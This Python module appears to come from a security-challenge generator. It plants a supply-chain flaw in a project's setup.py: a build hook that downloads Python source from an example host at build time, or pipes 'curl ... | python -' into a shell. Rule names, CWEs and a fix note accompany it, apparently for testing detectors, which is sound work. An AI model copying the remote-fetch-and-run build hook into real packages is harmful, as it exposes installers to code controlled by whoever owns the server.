from __future__ import annotations

from collections.abc import Iterator

from whence.challenge.plant import Kind, Needs, Variation, plant
from whence.challenge.project import Place, Project

FETCHING = '''\
import urllib.request
from pathlib import Path

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py

WORDS = "https://downloads.example.com/sentibot/stopwords/latest.py"


class BuildWithWords(build_py):
    """Ships the current list of stop words inside the package."""

    def run(self):
        target = Path("src/preprocessing/stopwords.py")
        if not target.exists():
            urllib.request.urlretrieve(WORDS, target)
        super().run()


'''
EXECUTING = '''\
import subprocess

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py


class BuildWithWords(build_py):
    """Ships the current list of stop words inside the package."""

    def run(self):
        subprocess.run(
            "curl -fsSL https://downloads.example.com/sentibot/stopwords/generate.py | python -",
            shell=True,
            check=True,
        )
        super().run()


'''


@plant(
    rules=("install-time-code", "remote-script-execution", "unverified-download"),
    severities=("high", "critical"),
    kind=Kind.OBVIOUS,
    needs=Needs.ONE_FILE,
    words=("setup.py", "install time", "install-time", "build hook", "at build time"),
    cwes=("CWE-829", "CWE-494", "CWE-506"),
)
def apply(project: Project, vary: Variation) -> Iterator[Place]:
    """setup.py downloads code while the package is being built and ships it unchecked.

    ## Why
    The build fetches Python source from a server and puts it into the wheel, or runs it at once.
    Whoever controls that server or the name of its host controls the code of the service, and no
    lock or review ever shows the change.

    ## Fix
    Commit the list as data, or fetch it in a step of its own with a recorded digest.
    """
    fetches = vary.choose(True, False)
    head = FETCHING if fetches else EXECUTING
    project.replace("setup.py", "from setuptools import find_packages, setup\n\n", head)
    project.insert_after(
        "setup.py", 'package_dir={"": "src"},', '    cmdclass={"build_py": BuildWithWords},'
    )
    yield Place("setup.py", "urllib.request.urlretrieve(WORDS" if fetches else "subprocess.run(")
    yield Place("setup.py", "https://downloads.example.com/sentibot/stopwords")
    yield Place("setup.py", 'cmdclass={"build_py": BuildWithWords}')
